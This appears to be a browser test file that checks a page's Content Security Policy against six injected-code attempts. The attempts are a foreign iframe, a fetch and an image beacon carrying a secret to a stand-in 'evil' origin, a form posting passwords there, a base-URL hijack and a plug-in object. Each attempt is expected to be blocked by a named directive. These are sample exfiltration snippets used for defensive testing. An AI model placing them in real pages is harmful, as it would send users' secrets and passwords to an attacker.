/** Injected code tries to load something from another origin, or to send data there. The page's policy blocks it. */
import { inPage, testBlocked } from './support/attempts';

testBlocked('other origins', [
  {
    what: 'a frame of another origin',
    attack: inPage((evil) => {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/frame`;
      document.body.append(frame);
    }),
    blockedBy: /^frame-src$/,
  },
  {
    what: 'data in a request',
    attack: inPage((evil) => fetch(`${evil}/?secret=1`).catch(() => undefined)),
    blockedBy: /^connect-src$/,
  },
  {
    what: 'data in the URL of an image',
    attack: inPage((evil) => {
      new Image().src = `${evil}/?secret=1`;
    }),
    blockedBy: /^img-src$/,
  },
  {
    what: 'a form that sends passwords to another origin',
    attack: inPage((evil) => {
      const form = document.createElement('form');
      form.action = `${evil}/passwords`;
      document.body.append(form);
      form.submit();
    }),
    blockedBy: /^form-action$/,
  },
  {
    what: 'another base URL',
    attack: inPage((evil) => {
      const base = document.createElement('base');
      base.href = evil;
      document.head.append(base);
    }),
    blockedBy: /^base-uri$/,
  },
  {
    what: 'a plug-in',
    attack: inPage((evil) => {
      const object = document.createElement('object');
      object.data = `${evil}/x.swf`;
      document.body.append(object);
    }),
    blockedBy: /^(object-src|require-trusted-types-for)$/,
  },
]);
